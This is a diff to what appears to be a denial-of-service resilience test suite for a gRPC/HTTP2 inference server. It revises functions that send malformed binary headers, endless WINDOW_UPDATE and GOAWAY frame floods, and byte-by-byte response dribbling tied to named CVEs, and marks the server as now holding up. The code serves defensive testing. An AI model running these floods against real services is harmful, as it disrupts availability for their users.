@@ -200,35 +200,48 @@ def strange_headers(target: Target) -> None:
         target.check(other == "OK", f"the other call beside {name}: {other}")
 
 
-@attack("a binary header that is no base64 ends others' calls (CVE-2023-32732)", holds=False)
+@attack("binary headers that are no base64 (CVE-2023-32732)", holds=True, peak_mib=256)
 def bad_binary_header(target: Target) -> None:
-    """gRPC 1.51 closes the connection, which may be a proxy's with calls of many clients."""
-    _, other = call_beside_another(target, headers(("x-bin", "!!!!")))
-    target.check(other == "OK", f"the connection's other call: {other}")
+    """gRPC 1.51 closes the caller's connection, with all of its calls; those of others go on."""
+    block = headers(("x-bin", "!!!!"))
+    message = h2.prefixed(messages.sample(messages.tensor(1, 100)))
+    _, beside = call_beside_another(target, block)
+    target.notes.append(f"the connection's other call: {beside}")
+    with connected(target) as others:
+        number = others.open(messages.SAMPLE)
+        keep_sending(target, lambda made: in_frames(made.next_stream(), block))
+        others.send(number, message, end=True)
+        code = others.finish(number, 5).code
+        target.check(code == "OK", f"another connection's call: {code}")
 
 
-@attack("WINDOW_UPDATE frames of one byte without end", holds=False, peak_mib=256)
+@attack("WINDOW_UPDATE frames of one byte without end", holds=True, peak_mib=256)
 def window_updates(target: Target) -> None:
     one = h2.frame(h2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500
     keep_sending(target, lambda _: one)
 
 
-@attack("GOAWAY frames without end", holds=False, peak_mib=256)
+@attack("GOAWAY frames without end", holds=True, peak_mib=256)
 def goaway_flood(target: Target) -> None:
     keep_sending(target, lambda _: h2.frame(h2.GOAWAY, 0, 0, bytes(8)) * 500)
 
 
-@attack("answers fetched byte by byte (CVE-2019-9511)", holds=False, peak_mib=256)
+@attack("answers fetched byte by byte (CVE-2019-9511)", holds=True, peak_mib=256)
 def dribble(target: Target) -> None:
-    """Each byte costs the server a frame."""
+    """Each byte costs the server a frame. A new connection for a closed one."""
     outputs = messages.message("OutputOptions", top_logprobs=2048)
     request = messages.sample(messages.tensor(1, 2048), outputs=outputs)
-    with connected(target, window=1, credit=False) as connection:
-        numbers = [connection.start(messages.SAMPLE, request) for _ in range(100)]
-        credit = struct.pack(">I", 1)
-        updates = b"".join(h2.frame(h2.WINDOW_UPDATE, 0, at, credit) for at in [0, *numbers])
-        while target.time_left() > 0:
-            connection.write(updates, seconds=1)
+    byte = struct.pack(">I", 1)
+    while target.time_left() > 0:
+        try:
+            with connected(target, window=1, credit=False) as connection:
+                numbers = [connection.start(messages.SAMPLE, request) for _ in range(100)]
+                updates = b"".join(h2.frame(h2.WINDOW_UPDATE, 0, at, byte) for at in [0, *numbers])
+                while target.time_left() > 0:
+                    connection.write(updates, seconds=1)
+        except OSError:
+            target.codes["refused"] += 1
+        time.sleep(0.02)
 
 
 @attack("80 MB of answers that the socket holds back (CVE-2019-9517)", holds=True)
